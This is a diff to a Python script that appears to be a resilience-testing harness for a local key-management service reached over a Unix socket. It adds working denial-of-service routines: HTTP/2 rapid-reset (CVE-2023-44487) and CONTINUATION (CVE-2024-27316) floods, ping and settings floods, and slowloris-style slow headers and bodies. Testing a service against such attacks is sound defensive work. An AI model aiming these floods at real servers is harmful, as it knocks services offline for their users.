@@ -17,12 +17,12 @@ import time
 
 ENCRYPT = "/v1/transit/encrypt/keyring"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, SETTINGS, PING = 0, 1, 4, 6
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 
 
 def connect(path):
     stream = socket.socket(socket.AF_UNIX)
-    stream.settimeout(60)
+    stream.settimeout(240)
     stream.connect(path)
     return stream
 
@@ -237,21 +237,95 @@ def h2_heads(path, connections, streams, fields=430):
     hold(sent=sent, failed=failed)
 
 
-def h2_noise(path, seconds):
-    """Sends acknowledgements of pings that nobody sent, for which h2 writes a warning each."""
+def h2_flood(path, seconds, frames, first=b"", stream_of=None):
+    """Sends these frames again and again for some seconds, behind the first ones, and never reads. Each round of a
+    connection gets them from `stream_of`, if they need new streams."""
     end = time.monotonic() + seconds
-    frames = 0
-    noise = frame(PING, 1, 0, b"x" * 8) * 500
+    sent = 0
     while time.monotonic() < end:
         stream = connect(path)
+        stream.settimeout(0.2)
         try:
-            stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+            stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + first)
+            number = 1
             while time.monotonic() < end:
-                stream.sendall(noise)
-                frames += 500
+                stream.sendall(frames if stream_of is None else stream_of(number))
+                number += 200
+                sent += 1
         except OSError:
             pass
-    report(frames=frames)
+        stream.close()
+    report(frames=sent * 500)
+
+
+def h2_noise(path, seconds):
+    """Acknowledgements of pings that nobody sent, for which h2 writes a warning each."""
+    h2_flood(path, seconds, frame(PING, 1, 0, b"x" * 8) * 500)
+
+
+def h2_pings(path, seconds):
+    """Pings, whose answers are never read."""
+    h2_flood(path, seconds, frame(PING, 0, 0, b"x" * 8) * 500)
+
+
+def h2_settings(path, seconds):
+    h2_flood(path, seconds, frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (1 << 16).to_bytes(4, "big")) * 500)
+
+
+def h2_resets(path, seconds):
+    """Calls that are reset at once (CVE-2023-44487)."""
+    call = bytes([0x83, 0x86]) + text(4, b"/v2.KeyManagementService/Encrypt") + text(31, b"application/grpc")
+
+    def calls(first):
+        streams = range(first, first + 200, 2)
+        return b"".join(frame(HEADERS, 4, n, call) + frame(RST_STREAM, 0, n, bytes([0, 0, 0, 8])) for n in streams)
+
+    h2_flood(path, seconds, b"", stream_of=calls)
+
+
+def h2_continuations(path, seconds):
+    """The head of a call that never ends (CVE-2024-27316)."""
+    first = frame(HEADERS, 0, 1, bytes([0x83, 0x86]))
+    h2_flood(path, seconds, frame(CONTINUATION, 0, 1, bytes([0x86])) * 500, first)
+
+
+def drip(path, count, start, piece):
+    """Sends `start` on `count` connections, then a piece on each every 100 ms; opens those again that are closed."""
+    held = []
+
+    def open_one():
+        stream = connect(path)
+        stream.sendall(start)
+        stream.setblocking(False)
+        held.append(stream)
+
+    for _ in range(count):
+        open_one()
+    report(held=len(held))
+    while not select.select([sys.stdin], [], [], 0.1)[0]:
+        for stream in held[:]:
+            try:
+                stream.send(piece)
+            except BlockingIOError:
+                pass
+            except OSError:
+                held.remove(stream)
+                stream.close()
+                try:
+                    open_one()
+                except OSError:
+                    pass
+
+
+def slow_heads(path, count, _=0):
+    """A request's head that never ends, field by field."""
+    drip(path, count, b"POST / HTTP/1.1\r\nhost: x\r\n", b"x: y\r\n")
+
+
+def slow_bodies(path, count, size):
+    """Bodies that arrive a few bytes at a time."""
+    head = f"POST {ENCRYPT} HTTP/1.1\r\nhost: x\r\ncontent-length: {size}\r\n\r\n".encode()
+    drip(path, count, head + b"A" * (32 << 10), b"A" * 16)
 
 
 def requests(path, seconds, threads, target="/keyring/vault/sync", body=""):
